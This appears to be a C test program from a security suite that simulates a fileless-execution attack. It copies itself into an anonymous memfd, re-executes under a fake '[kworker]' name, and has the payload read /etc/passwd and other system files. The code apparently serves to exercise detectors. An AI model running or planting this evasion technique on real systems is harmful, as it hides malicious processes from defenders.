// SPDX-License-Identifier: GPL-2.0
/*
 * Fileless execution: copy an ELF (this very program) into an anonymous
 * memfd and execute it from there with execveat(AT_EMPTY_PATH), under a
 * kernel-thread-like name. The payload (same pid after the exec) checks
 * that it runs from the memfd and gathers some host information.
 */
#include "common.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <unistd.h>

#define PAYLOAD_FLAG "--payload"

/* Runs from the memfd: reports where its code came from. */
static int payload(void)
{
	static const char *const loot[] = { "/etc/passwd", "/etc/hostname",
					    "/proc/version", "/proc/cpuinfo" };
	char exe[256], buf[4096];
	struct utsname uts;
	size_t bytes = 0;
	ssize_t n;

	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	if (n < 0)
		attack_die("readlink /proc/self/exe");
	exe[n] = '\0';
	uname(&uts);
	for (size_t i = 0; i < ARRAY_SIZE(loot); i++) {
		int fd = open(loot[i], O_RDONLY);

		while (fd >= 0 && (n = read(fd, buf, sizeof(buf))) > 0)
			bytes += (size_t)n;
		if (fd >= 0)
			close(fd);
	}
	printf("fileless: payload pid %d exe %s on %s %s, read %zu bytes\n",
	       (int)getpid(), exe, uts.nodename, uts.release, bytes);
	return strncmp(exe, "/memfd:", 7) != 0;
}

int main(int argc, char **argv)
{
	char *const args[] = { "[kworker/u4:2]", PAYLOAD_FLAG, NULL };
	char *const envp[] = { "PATH=/usr/bin:/bin", NULL };
	struct stat st;
	int src, mfd;

	if (argc > 1 && !strcmp(argv[1], PAYLOAD_FLAG))
		return payload();

	attack_announce("fileless", getpid());
	src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (src < 0 || fstat(src, &st) < 0)
		attack_die("open /proc/self/exe");
	mfd = memfd_create("kworker", MFD_CLOEXEC);
	if (mfd < 0)
		attack_die("memfd_create");
	for (off_t off = 0; off < st.st_size;) {
		if (sendfile(mfd, src, &off, (size_t)(st.st_size - off)) <= 0)
			attack_die("sendfile");
	}
	close(src);
	execveat(mfd, "", args, envp, AT_EMPTY_PATH);
	attack_die("execveat");
}
